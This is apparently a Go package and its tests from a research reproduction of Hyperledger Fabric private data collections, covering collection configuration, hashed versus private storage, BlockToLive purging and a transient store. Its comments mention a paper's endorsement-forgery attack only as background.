		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				key := fmt.Sprintf("k%d-%d", w, i)
				s.ApplyPrivateWrite("cc", "pdc1", key, []byte("v"), 1)
				s.SchedulePurge(uint64(i%10), "cc", "pdc1", key)
			}
		}(w)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for b := uint64(0); b < 10; b++ {
			s.PurgeUpTo(b)
		}
	}()
	wg.Wait()

	// Whatever interleaving happened, a final purge drains the queue.
	s.PurgeUpTo(10)
	if n := s.PurgeUpTo(10); n != 0 {
		t.Fatalf("queue not drained: %d entries left", n)
	}
}

func TestMemberOrgs(t *testing.T) {
	cfg := validConfig()
	orgs := cfg.MemberOrgs()
	if len(orgs) != 2 || orgs[0] != "org1" || orgs[1] != "org2" {
		t.Fatalf("member orgs = %v", orgs)
	}
	if !cfg.IsMember("org1") || cfg.IsMember("org3") {
		t.Fatal("membership test wrong")
	}
}

func TestCollectionsConfigJSONRoundTrip(t *testing.T) {
	configs := []CollectionConfig{validConfig()}
	configs[0].EndorsementPolicy = "AND(org1.peer, org2.peer)"
	data, err := MarshalCollectionsConfig(configs)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "requiredPeerCount") {
		t.Error("marshal lacks Fabric keyword requiredPeerCount")
	}
	parsed, err := ParseCollectionsConfig(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed) != 1 || parsed[0].Name != "pdc1" || parsed[0].EndorsementPolicy != configs[0].EndorsementPolicy {
		t.Fatalf("round trip = %+v", parsed)
	}

	if _, err := ParseCollectionsConfig([]byte("[{\"name\": \"\"}]")); err == nil {
		t.Error("invalid collection accepted")
	}
	if _, err := ParseCollectionsConfig([]byte("not json")); err == nil {
		t.Error("malformed JSON accepted")
	}
}

func TestStoreVersionsAligned(t *testing.T) {
	db := statedb.New()
	s := NewStore(db)

	keyHash := fabcrypto.HashString("k1")
	ver := s.ApplyHashedWrite("cc", "pdc1", keyHash, fabcrypto.Hash([]byte("v1")))
	s.ApplyPrivateWrite("cc", "pdc1", "k1", []byte("v1"), ver)

	// Hashed and private stores agree on the version — the invariant
	// behind the GetPrivateDataHash version oracle.
	_, pv, ok := s.GetPrivate("cc", "pdc1", "k1")
	if !ok || pv != ver {
		t.Fatalf("private version = %d, want %d", pv, ver)
	}
	_, hv, ok := s.GetPrivateHash("cc", "pdc1", "k1")
	if !ok || hv != ver {
		t.Fatalf("hash version = %d, want %d", hv, ver)
	}
	if s.HashedVersion("cc", "pdc1", keyHash) != ver {
		t.Fatal("HashedVersion disagrees")
	}

	// Second write advances both.
	ver2 := s.ApplyHashedWrite("cc", "pdc1", keyHash, fabcrypto.Hash([]byte("v2")))
	if ver2 != ver+1 {
		t.Fatalf("second version = %d", ver2)
	}
}

func TestStoreDelete(t *testing.T) {
	db := statedb.New()
	s := NewStore(db)
	keyHash := fabcrypto.HashString("k1")
	ver := s.ApplyHashedWrite("cc", "pdc1", keyHash, fabcrypto.Hash([]byte("v"))) // v1
	s.ApplyPrivateWrite("cc", "pdc1", "k1", []byte("v"), ver)

	s.DeleteHashed("cc", "pdc1", keyHash)
	s.DeletePrivate("cc", "pdc1", "k1")
	if _, _, ok := s.GetPrivate("cc", "pdc1", "k1"); ok {
		t.Fatal("private entry survived delete")
	}
	if _, _, ok := s.GetPrivateHash("cc", "pdc1", "k1"); ok {
		t.Fatal("hashed entry survived delete")
	}
	if s.HashedVersion("cc", "pdc1", keyHash) != 0 {
		t.Fatal("deleted hash reports version")
	}
}

func TestBlockToLivePurge(t *testing.T) {
	db := statedb.New()
	s := NewStore(db)
	ver := s.ApplyHashedWrite("cc", "pdc1", fabcrypto.HashString("k"), fabcrypto.Hash([]byte("v")))
	s.ApplyPrivateWrite("cc", "pdc1", "k", []byte("v"), ver)
	s.SchedulePurge(5, "cc", "pdc1", "k")

	if n := s.PurgeUpTo(4); n != 0 {
		t.Fatalf("premature purge of %d entries", n)
	}
	if _, _, ok := s.GetPrivate("cc", "pdc1", "k"); !ok {
		t.Fatal("entry gone before BlockToLive")
	}
	if n := s.PurgeUpTo(5); n != 1 {
		t.Fatalf("purged %d entries, want 1", n)
	}
	if _, _, ok := s.GetPrivate("cc", "pdc1", "k"); ok {
		t.Fatal("entry survived BlockToLive purge")
	}
	// The hashed entry remains — only original private data is purged.
	if _, _, ok := s.GetPrivateHash("cc", "pdc1", "k"); !ok {
		t.Fatal("hashed entry purged")
	}
	// Idempotent.
	if n := s.PurgeUpTo(10); n != 0 {
		t.Fatalf("double purge removed %d entries", n)
	}
}

func TestPrivateKeys(t *testing.T) {
	db := statedb.New()
	s := NewStore(db)
	s.ApplyPrivateWrite("cc", "pdc1", "b", []byte("2"), 1)
	s.ApplyPrivateWrite("cc", "pdc1", "a", []byte("1"), 1)
	keys := s.PrivateKeys("cc", "pdc1")
	if len(keys) != 2 || keys[0] != "a" || keys[1] != "b" {
		t.Fatalf("keys = %v", keys)
	}
}

func TestNamespaceHelpers(t *testing.T) {
	if HashedNamespace("cc", "pdc") == PrivateNamespace("cc", "pdc") {
		t.Fatal("hashed and private namespaces collide")
	}
	if HashedKey("k") != fabcrypto.HashHex([]byte("k")) {
		t.Fatal("HashedKey mismatch")
	}
}

func TestTransientStoreMerge(t *testing.T) {
	ts := NewTransientStore()
	ts.Persist(nil) // no-op
	ts.Persist(&rwset.TxPvtRWSet{
		TxID:     "tx1",
		CollSets: []rwset.CollPvtRWSet{{Collection: "a"}},
	})
	ts.Persist(&rwset.TxPvtRWSet{
		TxID: "tx1",
		CollSets: []rwset.CollPvtRWSet{
			{Collection: "a"}, // duplicate: ignored
			{Collection: "b"},
		},
	})
	set := ts.Get("tx1")
	if set == nil || len(set.CollSets) != 2 {
		t.Fatalf("merged set = %+v", set)
	}
	if ts.GetCollection("tx1", "b") == nil {
		t.Fatal("collection b missing")
	}
	if ts.GetCollection("tx1", "zzz") != nil {
		t.Fatal("phantom collection")
	}
	if ts.GetCollection("tx2", "a") != nil {
		t.Fatal("phantom transaction")
	}
	if ts.Len() != 1 {
		t.Fatalf("len = %d", ts.Len())
	}
	ts.Purge("tx1")
	if ts.Get("tx1") != nil || ts.Len() != 0 {
		t.Fatal("purge failed")
	}
}

func TestImplicitCollection(t *testing.T) {
	cfg, ok := ImplicitCollection("_implicit_org_org1")
	if !ok {
		t.Fatal("implicit collection not resolved")
	}
	if err := cfg.Validate(); err != nil {
		t.Fatalf("synthesized config invalid: %v", err)
	}
	if !cfg.IsMember("org1") || cfg.IsMember("org2") {
		t.Fatal("implicit membership wrong")
	}
	if !cfg.MemberOnlyRead || !cfg.MemberOnlyWrite {
		t.Fatal("implicit collection should be member-only in both directions")
	}
	if cfg.EndorsementPolicy == "" {
		t.Fatal("implicit collection should carry its own endorsement policy")
	}

	if _, ok := ImplicitCollection("pdc1"); ok {
		t.Fatal("explicit name resolved as implicit")
	}
	if _, ok := ImplicitCollection("_implicit_org_"); ok {
		t.Fatal("empty org resolved as implicit")
	}
}
