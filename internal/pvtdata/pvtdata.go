// Package pvtdata implements the private data collection (PDC) machinery:
// collection configurations, the split storage model (original tuples at
// member peers, hashed tuples at every peer), the transient store that
// holds private write sets between endorsement and commit, and
// BlockToLive-based purging.
//
// Storage model (paper §III-A1): public data is stored as
// ⟨key, value, version⟩ at all peers. Private data is stored as the
// original ⟨key, value, version⟩ only at collection member peers, and as
// ⟨hash(key), hash(value), version⟩ at all peers in the channel.
package pvtdata

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"sync"

	"repro/internal/fabcrypto"
	"repro/internal/policy"
	"repro/internal/statedb"
	"repro/internal/storage"
)

// CollectionConfig mirrors the fields of Fabric's collection definition
// JSON, the same keywords the paper's static analyzer searches for:
// Name, Policy, RequiredPeerCount, MaxPeerCount, BlockToLive,
// MemberOnlyRead and the optional EndorsementPolicy.
type CollectionConfig struct {
	// Name identifies the collection within its chaincode.
	Name string `json:"name"`
	// MemberPolicy (the JSON "policy" field) defines which organizations
	// are members of the collection and receive the original private
	// data, e.g. "OR(org1.member, org2.member)".
	MemberPolicy string `json:"policy"`
	// RequiredPeerCount is the minimum number of other member peers the
	// endorsing peer must disseminate the private data to before
	// returning its endorsement.
	RequiredPeerCount int `json:"requiredPeerCount"`
	// MaxPeerCount bounds dissemination fan-out.
	MaxPeerCount int `json:"maxPeerCount"`
	// BlockToLive is the number of blocks after which private data is
	// purged from member stores; 0 keeps it forever.
	BlockToLive uint64 `json:"blockToLive"`
	// MemberOnlyRead, when true, makes non-member read attempts fail at
	// endorsement with an authorization error rather than a missing-key
	// error.
	MemberOnlyRead bool `json:"memberOnlyRead"`
	// MemberOnlyWrite, when true, restricts private writes and deletes
	// to clients of member organizations, checked at endorsement.
	MemberOnlyWrite bool `json:"memberOnlyWrite"`
	// EndorsementPolicy is the optional collection-level endorsement
	// policy. When empty, write-related transactions on this collection
	// fall back to the chaincode-level policy — the misuse the paper's
	// Use Case 2 identifies.
	EndorsementPolicy string `json:"endorsementPolicy,omitempty"`
}

// Validate checks the structural sanity of the configuration and that its
// policies parse.
func (c *CollectionConfig) Validate() error {
	if c.Name == "" {
		return fmt.Errorf("pvtdata: collection with empty name")
	}
	if c.MemberPolicy == "" {
		return fmt.Errorf("pvtdata: collection %q: empty member policy", c.Name)
	}
	if _, err := policy.Parse(c.MemberPolicy); err != nil {
		return fmt.Errorf("pvtdata: collection %q member policy: %w", c.Name, err)
	}
	if c.EndorsementPolicy != "" {
		if _, err := policy.Parse(c.EndorsementPolicy); err != nil {
			return fmt.Errorf("pvtdata: collection %q endorsement policy: %w", c.Name, err)
		}
	}
	if c.RequiredPeerCount < 0 {
		return fmt.Errorf("pvtdata: collection %q: negative requiredPeerCount", c.Name)
	}
	if c.RequiredPeerCount > 0 && c.MaxPeerCount == 0 {
		// MaxPeerCount 0 disables dissemination entirely (push to none),
		// which can never satisfy a positive RequiredPeerCount.
		return fmt.Errorf("pvtdata: collection %q: maxPeerCount 0 disables dissemination but requiredPeerCount is %d",
			c.Name, c.RequiredPeerCount)
	}
	if c.MaxPeerCount < c.RequiredPeerCount {
		return fmt.Errorf("pvtdata: collection %q: maxPeerCount %d < requiredPeerCount %d",
			c.Name, c.MaxPeerCount, c.RequiredPeerCount)
	}
	return nil
}

// MemberOrgs returns the organizations named by the member policy. Any
// org mentioned in the policy is treated as a member organization, which
// matches Fabric's collection membership semantics for OR-of-members
// policies.
func (c *CollectionConfig) MemberOrgs() []string {
	pol, err := policy.Parse(c.MemberPolicy)
	if err != nil {
		return nil
	}
	seen := make(map[string]bool)
	var orgs []string
	for _, p := range pol.Principals() {
		if !seen[p.Org] {
			seen[p.Org] = true
			orgs = append(orgs, p.Org)
		}
	}
	return orgs
}

// IsMember reports whether org is a member organization of the collection.
func (c *CollectionConfig) IsMember(org string) bool {
	for _, m := range c.MemberOrgs() {
		if m == org {
			return true
		}
	}
	return false
}

// ImplicitCollectionPrefix is the name prefix of Fabric's implicit
// per-organization collections: every organization implicitly owns a
// single-member collection named "_implicit_org_<org>" without defining
// it in a configuration file. The paper's analyzer detects this marker;
// the runtime here resolves such names on the fly.
const ImplicitCollectionPrefix = "_implicit_org_"

// ImplicitCollection synthesizes the configuration of an implicit
// per-org collection, or returns false when the name is not implicit.
func ImplicitCollection(name string) (CollectionConfig, bool) {
	if !strings.HasPrefix(name, ImplicitCollectionPrefix) {
		return CollectionConfig{}, false
	}
	org := strings.TrimPrefix(name, ImplicitCollectionPrefix)
	if org == "" {
		return CollectionConfig{}, false
	}
	return CollectionConfig{
		Name:         name,
		MemberPolicy: fmt.Sprintf("OR(%s.member)", org),
		// The single member org disseminates among its own peers only.
		RequiredPeerCount: 0,
		MaxPeerCount:      1 << 16,
		// Implicit collections are member-only for both directions, as
		// in Fabric: the owning org's data never leaves it.
		MemberOnlyRead:  true,
		MemberOnlyWrite: true,
		// Writes to an org's implicit collection are endorsed by that
		// org alone.
		EndorsementPolicy: fmt.Sprintf("OR(%s.peer)", org),
	}, true
}

// ParseCollectionsConfig parses a Fabric collections_config.json document:
// a JSON array of collection definitions.
func ParseCollectionsConfig(data []byte) ([]CollectionConfig, error) {
	var configs []CollectionConfig
	if err := json.Unmarshal(data, &configs); err != nil {
		return nil, fmt.Errorf("pvtdata: parse collections config: %w", err)
	}
	for i := range configs {
		if err := configs[i].Validate(); err != nil {
			return nil, err
		}
	}
	return configs, nil
}

// MarshalCollectionsConfig renders collection definitions as a
// collections_config.json document.
func MarshalCollectionsConfig(configs []CollectionConfig) ([]byte, error) {
	b, err := json.MarshalIndent(configs, "", "  ")
	if err != nil {
		return nil, fmt.Errorf("pvtdata: marshal collections config: %w", err)
	}
	return b, nil
}

// HashedNamespace returns the world-state namespace holding the hashed
// tuples of a collection: present at every peer in the channel.
func HashedNamespace(chaincode, collection string) string {
	return chaincode + "$h$" + collection
}

// PrivateNamespace returns the world-state namespace holding the original
// private tuples of a collection: present only at member peers.
func PrivateNamespace(chaincode, collection string) string {
	return chaincode + "$p$" + collection
}

// HashedKey returns the store key for a private key's hash entry: the hex
// form of SHA-256(key).
func HashedKey(key string) string {
	return fabcrypto.HashHex([]byte(key))
}

// Store wraps a peer's world state with the PDC storage discipline. One
// Store exists per peer; member and non-member behaviour differ only in
// which namespaces ever receive writes.
type Store struct {
	db *statedb.DB
	// purgeMu guards purgeQueue: SchedulePurge and PurgeUpTo are
	// reachable both from the commit path and from the reconciler, which
	// may tick on another goroutine.
	purgeMu sync.Mutex
	// purgeQueue maps committing-block -> private entries to purge at
	// that block height, implementing BlockToLive.
	purgeQueue map[uint64][]purgeEntry
	// durable, when set, mirrors the purge queue to the peer's durable
	// PvtStore so BlockToLive survives a restart (docs/STORAGE.md §7).
	// Write failures are held sticky in durableErr and surfaced through
	// DurableErr — the peer checks it before declaring a block durable.
	durable    storage.PvtStore
	durableErr error
}

type purgeEntry struct {
	namespace string
	key       string
}

// NewStore creates a PDC store over a peer's world state database.
func NewStore(db *statedb.DB) *Store {
	return &Store{db: db, purgeQueue: make(map[uint64][]purgeEntry)}
}

// GetPrivate returns the original private value and version of key, as
// stored at member peers.
func (s *Store) GetPrivate(chaincode, collection, key string) ([]byte, statedb.Version, bool) {
	return s.db.Get(PrivateNamespace(chaincode, collection), key)
}

// GetPrivateHash returns the value hash and version for key from the
// hashed store. Every peer in the channel can answer this — including
// PDC non-members, which is what makes the paper's endorsement forgery
// (§IV-A1) possible: the version here always equals the version a member
// peer would report from its private store.
func (s *Store) GetPrivateHash(chaincode, collection, key string) (valueHash []byte, ver statedb.Version, ok bool) {
	return s.db.Get(HashedNamespace(chaincode, collection), HashedKey(key))
}

// ApplyPrivateWrite commits an original private write at a member peer,
// keeping the private version aligned with the hashed version.
func (s *Store) ApplyPrivateWrite(chaincode, collection, key string, value []byte, ver statedb.Version) {
	s.db.PutAtVersion(PrivateNamespace(chaincode, collection), key, value, ver)
}

// DeletePrivate removes the original private entry at a member peer.
func (s *Store) DeletePrivate(chaincode, collection, key string) {
	s.db.Delete(PrivateNamespace(chaincode, collection), key)
}

// ApplyHashedWrite commits a hashed write at any peer and returns the new
// version. keyHash is the raw digest of the key.
func (s *Store) ApplyHashedWrite(chaincode, collection string, keyHash, valueHash []byte) statedb.Version {
	ns := HashedNamespace(chaincode, collection)
	return s.db.Put(ns, hexKey(keyHash), valueHash)
}

// DeleteHashed removes a hashed entry at any peer.
func (s *Store) DeleteHashed(chaincode, collection string, keyHash []byte) {
	s.db.Delete(HashedNamespace(chaincode, collection), hexKey(keyHash))
}

// HashedVersion returns the current version of a hashed key; 0 if absent.
func (s *Store) HashedVersion(chaincode, collection string, keyHash []byte) statedb.Version {
	return s.db.GetVersion(HashedNamespace(chaincode, collection), hexKey(keyHash))
}

// HashedVersions returns the current version of every hashed key (0 when
// absent) in one lock acquisition on the collection's hash namespace,
// for the validator's batched MVCC check.
func (s *Store) HashedVersions(chaincode, collection string, keyHashes [][]byte) []statedb.Version {
	keys := make([]string, len(keyHashes))
	for i, h := range keyHashes {
		keys[i] = hexKey(h)
	}
	return s.db.GetVersions(HashedNamespace(chaincode, collection), keys)
}

// SetDurable mirrors the purge queue to a durable PvtStore. Set once,
// during peer construction, before any commit.
func (s *Store) SetDurable(d storage.PvtStore) {
	s.purgeMu.Lock()
	s.durable = d
	s.purgeMu.Unlock()
}

// DurableErr returns the first durable-write failure, if any. A store
// with a sticky error has an incomplete durable purge queue; the peer
// fails the in-flight commit so the gap is replayed on recovery.
func (s *Store) DurableErr() error {
	s.purgeMu.Lock()
	defer s.purgeMu.Unlock()
	return s.durableErr
}

// RestorePurges reloads the pending purge queue from the durable store
// on recovery.
func (s *Store) RestorePurges() error {
	s.purgeMu.Lock()
	d := s.durable
	s.purgeMu.Unlock()
	if d == nil {
		return nil
	}
	return d.LoadPurges(func(e storage.PurgeEntry) error {
		s.purgeMu.Lock()
		s.purgeQueue[e.At] = append(s.purgeQueue[e.At], purgeEntry{namespace: e.Namespace, key: e.Key})
		s.purgeMu.Unlock()
		return nil
	})
}

// SchedulePurge arranges for the private entry to be purged when the
// chain reaches purgeAtBlock, implementing BlockToLive. With a durable
// store attached the schedule is journaled too; re-scheduling the same
// entry during recovery replay is an idempotent duplicate.
func (s *Store) SchedulePurge(purgeAtBlock uint64, chaincode, collection, key string) {
	ns := PrivateNamespace(chaincode, collection)
	s.purgeMu.Lock()
	s.purgeQueue[purgeAtBlock] = append(s.purgeQueue[purgeAtBlock], purgeEntry{namespace: ns, key: key})
	d := s.durable
	s.purgeMu.Unlock()
	if d == nil {
		return
	}
	if err := d.SchedulePurge(storage.PurgeEntry{At: purgeAtBlock, Namespace: ns, Key: key}); err != nil {
		s.purgeMu.Lock()
		if s.durableErr == nil {
			s.durableErr = err
		}
		s.purgeMu.Unlock()
	}
}

// PendingPurges exports the in-memory purge schedule as raw
// (at, namespace, key) entries, sorted by height then namespace then
// key. A snapshot carries this so BlockToLive keeps firing on an
// installed peer exactly as it would have on the exporter.
func (s *Store) PendingPurges() []storage.PurgeEntry {
	s.purgeMu.Lock()
	var out []storage.PurgeEntry
	for at, entries := range s.purgeQueue {
		for _, e := range entries {
			out = append(out, storage.PurgeEntry{At: at, Namespace: e.namespace, Key: e.key})
		}
	}
	s.purgeMu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.At != b.At {
			return a.At < b.At
		}
		if a.Namespace != b.Namespace {
			return a.Namespace < b.Namespace
		}
		return a.Key < b.Key
	})
	return out
}

// InstallPurges seeds the purge schedule from snapshot entries. Unlike
// SchedulePurge it takes raw namespace/key pairs (the exporter already
// resolved chaincode+collection to a private namespace) and mirrors
// each entry to the durable store so the schedule survives a restart of
// the installed peer.
func (s *Store) InstallPurges(entries []storage.PurgeEntry) error {
	s.purgeMu.Lock()
	d := s.durable
	for _, e := range entries {
		s.purgeQueue[e.At] = append(s.purgeQueue[e.At], purgeEntry{namespace: e.Namespace, key: e.Key})
	}
	s.purgeMu.Unlock()
	if d == nil {
		return nil
	}
	for _, e := range entries {
		if err := d.SchedulePurge(e); err != nil {
			return err
		}
	}
	return nil
}

// PurgeUpTo removes all private entries whose BlockToLive expired at or
// before blockNum and returns how many entries were purged.
func (s *Store) PurgeUpTo(blockNum uint64) int {
	s.purgeMu.Lock()
	var due []purgeEntry
	for at, entries := range s.purgeQueue {
		if at > blockNum {
			continue
		}
		due = append(due, entries...)
		delete(s.purgeQueue, at)
	}
	d := s.durable
	s.purgeMu.Unlock()
	for _, e := range due {
		s.db.Delete(e.namespace, e.key)
	}
	if d != nil && len(due) > 0 {
		if err := d.CompletePurge(blockNum); err != nil {
			s.purgeMu.Lock()
			if s.durableErr == nil {
				s.durableErr = err
			}
			s.purgeMu.Unlock()
		}
	}
	return len(due)
}

// PrivateKeys lists the live private keys of a collection at this peer.
func (s *Store) PrivateKeys(chaincode, collection string) []string {
	return s.db.Keys(PrivateNamespace(chaincode, collection))
}

func hexKey(digest []byte) string {
	return fmt.Sprintf("%x", digest)
}
