package pvtdata

import (
	"testing"

	"repro/internal/rwset"
)

func pvtSet(txID, coll, key, value string) *rwset.TxPvtRWSet {
	return &rwset.TxPvtRWSet{
		TxID: txID,
		CollSets: []rwset.CollPvtRWSet{{
			Collection: coll,
			Writes:     []rwset.KVWrite{{Key: key, Value: []byte(value)}},
		}},
	}
}

// TestTransientStoreMutationIsolation: the store must not alias caller
// memory in either direction. Gossip pushes the SAME TxPvtRWSet pointer
// to several peers; if Persist shallow-copied, the peers' transient
// stores would share backing arrays, and a served set's mutation would
// corrupt the store.
func TestTransientStoreMutationIsolation(t *testing.T) {
	src := pvtSet("tx1", "pdc1", "k", "original")

	// Two peers persist the same pointer (one gossip push, two receivers).
	ts1 := NewTransientStore()
	ts2 := NewTransientStore()
	ts1.Persist(src)
	ts2.Persist(src)

	// Mutating the caller's set after Persist must not reach the stores.
	src.CollSets[0].Writes[0].Value[0] = 'X'
	src.CollSets[0].Writes[0].Key = "hijacked"
	for i, ts := range []*TransientStore{ts1, ts2} {
		got := ts.GetCollection("tx1", "pdc1")
		if got == nil || got.Writes[0].Key != "k" || string(got.Writes[0].Value) != "original" {
			t.Fatalf("store %d aliased caller memory: %+v", i+1, got)
		}
	}

	// Mutating a served set must not reach the store either.
	served := ts1.GetCollection("tx1", "pdc1")
	served.Writes[0].Value[0] = 'Y'
	served.Writes = append(served.Writes, rwset.KVWrite{Key: "extra"})
	again := ts1.GetCollection("tx1", "pdc1")
	if string(again.Writes[0].Value) != "original" || len(again.Writes) != 1 {
		t.Fatalf("served set aliased store memory: %+v", again)
	}

	// Same for the whole-transaction getter.
	full := ts1.Get("tx1")
	full.CollSets[0].Writes[0].Value[0] = 'Z'
	if string(ts1.Get("tx1").CollSets[0].Writes[0].Value) != "original" {
		t.Fatal("Get aliased store memory")
	}

	// Merge path: collections merged from a second Persist are isolated
	// copies too.
	src2 := pvtSet("tx1", "pdc2", "k2", "two")
	ts1.Persist(src2)
	src2.CollSets[0].Writes[0].Value[0] = 'W'
	if string(ts1.GetCollection("tx1", "pdc2").Writes[0].Value) != "two" {
		t.Fatal("merged collection aliased caller memory")
	}
}

func TestTransientStoreTTLEviction(t *testing.T) {
	ts := NewTransientStore()
	height := uint64(0)
	ts.SetHeightSource(func() uint64 { return height })
	ts.SetLimits(3, 0) // entries live 3 blocks, no size bound

	height = 1
	ts.Persist(pvtSet("tx-old", "pdc1", "k", "v"))
	height = 3
	ts.Persist(pvtSet("tx-new", "pdc1", "k", "v"))

	// At height 3 nothing has expired (1+3 > 3).
	if n := ts.EvictExpired(3); n != 0 {
		t.Fatalf("evicted %d at height 3, want 0", n)
	}
	// At height 4 the older entry expires (1+3 <= 4).
	if n := ts.EvictExpired(4); n != 1 {
		t.Fatalf("evicted %d at height 4, want 1", n)
	}
	if ts.Get("tx-old") != nil {
		t.Fatal("expired entry survived")
	}
	if ts.Get("tx-new") == nil {
		t.Fatal("live entry evicted")
	}
	// TTL 0 disables expiry.
	ts.SetLimits(0, 0)
	if n := ts.EvictExpired(1000); n != 0 {
		t.Fatalf("TTL-disabled eviction removed %d entries", n)
	}
}

func TestTransientStoreSizeBound(t *testing.T) {
	ts := NewTransientStore()
	height := uint64(0)
	ts.SetHeightSource(func() uint64 { return height })
	ts.SetLimits(0, 2)

	height = 1
	ts.Persist(pvtSet("tx-a", "pdc1", "k", "v"))
	height = 2
	ts.Persist(pvtSet("tx-b", "pdc1", "k", "v"))
	height = 3
	ts.Persist(pvtSet("tx-c", "pdc1", "k", "v"))

	if ts.Len() != 2 {
		t.Fatalf("len = %d, want 2 (size bound)", ts.Len())
	}
	if ts.Get("tx-a") != nil {
		t.Fatal("oldest entry not evicted first")
	}
	if ts.Get("tx-b") == nil || ts.Get("tx-c") == nil {
		t.Fatal("newer entries evicted")
	}

	// Shrinking the bound evicts immediately, oldest first.
	ts.SetLimits(0, 1)
	if ts.Len() != 1 || ts.Get("tx-c") == nil {
		t.Fatalf("after shrink: len=%d, tx-c present=%v", ts.Len(), ts.Get("tx-c") != nil)
	}
}

// TestTransientStoreMergeKeepsInsertionHeight: merging gossip deliveries
// into an existing entry does not refresh its TTL clock.
func TestTransientStoreMergeKeepsInsertionHeight(t *testing.T) {
	ts := NewTransientStore()
	height := uint64(1)
	ts.SetHeightSource(func() uint64 { return height })
	ts.SetLimits(2, 0)

	ts.Persist(pvtSet("tx1", "pdc1", "k", "v"))
	height = 5
	ts.Persist(pvtSet("tx1", "pdc2", "k2", "v2")) // merge at height 5

	// 1+2 <= 5: the entry expires on its original insertion height.
	if n := ts.EvictExpired(5); n != 1 {
		t.Fatalf("evicted %d, want 1", n)
	}
}
