package pvtdata

import (
	"sort"
	"sync"

	"repro/internal/rwset"
)

// TransientStore holds original private read/write sets between
// endorsement and commit. Endorsers store their own simulation results
// here; gossip deposits sets received from other endorsers. The validator
// fetches from here at commit time and erases entries once committed.
//
// The store never aliases caller memory: Persist deep-copies the incoming
// set and Get/GetCollection return deep copies, so two peers receiving
// the same gossip push (or a caller mutating a served set) cannot corrupt
// each other's stores.
//
// Lifecycle: entries are stamped with the block height at insertion time
// (when a height source is wired). Besides the per-transaction Purge at
// commit, EvictExpired implements a TTL in blocks and a size bound, so
// sets whose transactions never commit (dropped, censored, or delivered
// to a non-validating peer) do not accumulate forever.
type TransientStore struct {
	mu   sync.Mutex
	sets map[string]*transientEntry // txID -> private sets

	// height, when non-nil, supplies the current chain height used to
	// stamp new entries.
	height func() uint64
	// ttlBlocks evicts entries older than this many blocks (0 = no TTL).
	ttlBlocks uint64
	// maxEntries bounds the number of stored transactions (0 = unbounded);
	// the oldest entries (smallest insertion height, ties by txID) are
	// evicted first.
	maxEntries int
}

type transientEntry struct {
	set        *rwset.TxPvtRWSet
	insertedAt uint64 // chain height when first persisted
}

// NewTransientStore creates an empty transient store.
func NewTransientStore() *TransientStore {
	return &TransientStore{sets: make(map[string]*transientEntry)}
}

// SetHeightSource wires the chain-height callback used to stamp entries;
// without one every entry is stamped 0 and TTL eviction measures from
// genesis.
func (t *TransientStore) SetHeightSource(height func() uint64) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.height = height
}

// SetLimits configures the lifecycle bounds: ttlBlocks evicts entries
// older than that many blocks at the next EvictExpired (0 disables the
// TTL), maxEntries bounds the store size (0 = unbounded, enforced
// immediately and on every Persist).
func (t *TransientStore) SetLimits(ttlBlocks uint64, maxEntries int) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.ttlBlocks = ttlBlocks
	t.maxEntries = maxEntries
	t.enforceBoundLocked()
}

// Persist stores a deep copy of the private read/write set of a
// transaction. A second Persist for the same transaction merges
// collections, so gossip deliveries from multiple endorsers accumulate;
// the entry keeps the insertion height of its first Persist.
func (t *TransientStore) Persist(set *rwset.TxPvtRWSet) {
	if set == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	existing, ok := t.sets[set.TxID]
	if !ok {
		var at uint64
		if t.height != nil {
			at = t.height()
		}
		t.sets[set.TxID] = &transientEntry{set: set.Clone(), insertedAt: at}
		t.enforceBoundLocked()
		return
	}
	for i := range set.CollSets {
		coll := &set.CollSets[i]
		if !hasCollection(existing.set, coll.Collection) {
			existing.set.CollSets = append(existing.set.CollSets, *coll.Clone())
		}
	}
}

// Get returns a deep copy of the stored private set for txID, or nil.
func (t *TransientStore) Get(txID string) *rwset.TxPvtRWSet {
	t.mu.Lock()
	defer t.mu.Unlock()
	e, ok := t.sets[txID]
	if !ok {
		return nil
	}
	return e.set.Clone()
}

// GetCollection returns a deep copy of the original private set of one
// collection for txID, or nil when the peer never received it.
func (t *TransientStore) GetCollection(txID, collection string) *rwset.CollPvtRWSet {
	t.mu.Lock()
	defer t.mu.Unlock()
	e, ok := t.sets[txID]
	if !ok {
		return nil
	}
	for i := range e.set.CollSets {
		if e.set.CollSets[i].Collection == collection {
			return e.set.CollSets[i].Clone()
		}
	}
	return nil
}

// Purge removes the entry for txID after commit.
func (t *TransientStore) Purge(txID string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	delete(t.sets, txID)
}

// EvictExpired drops entries whose TTL expired at chain height `height`
// (insertion height + ttlBlocks <= height) and then enforces the size
// bound. Returns how many entries were evicted. The peer calls this after
// every block commit.
func (t *TransientStore) EvictExpired(height uint64) int {
	t.mu.Lock()
	defer t.mu.Unlock()
	evicted := 0
	if t.ttlBlocks > 0 {
		for txID, e := range t.sets {
			if e.insertedAt+t.ttlBlocks <= height {
				delete(t.sets, txID)
				evicted++
			}
		}
	}
	return evicted + t.enforceBoundLocked()
}

// enforceBoundLocked evicts oldest-first until the size bound holds.
// Caller holds t.mu.
func (t *TransientStore) enforceBoundLocked() int {
	if t.maxEntries <= 0 || len(t.sets) <= t.maxEntries {
		return 0
	}
	type aged struct {
		txID string
		at   uint64
	}
	order := make([]aged, 0, len(t.sets))
	for txID, e := range t.sets {
		order = append(order, aged{txID: txID, at: e.insertedAt})
	}
	sort.Slice(order, func(i, j int) bool {
		if order[i].at != order[j].at {
			return order[i].at < order[j].at
		}
		return order[i].txID < order[j].txID
	})
	evicted := 0
	for _, o := range order {
		if len(t.sets) <= t.maxEntries {
			break
		}
		delete(t.sets, o.txID)
		evicted++
	}
	return evicted
}

// Len reports how many transactions currently have transient data.
func (t *TransientStore) Len() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.sets)
}

func hasCollection(set *rwset.TxPvtRWSet, name string) bool {
	for _, c := range set.CollSets {
		if c.Collection == name {
			return true
		}
	}
	return false
}
