package pvtdata

import (
	"sync"

	"repro/internal/rwset"
)

// TransientStore holds original private read/write sets between
// endorsement and commit. Endorsers store their own simulation results
// here; gossip deposits sets received from other endorsers. The validator
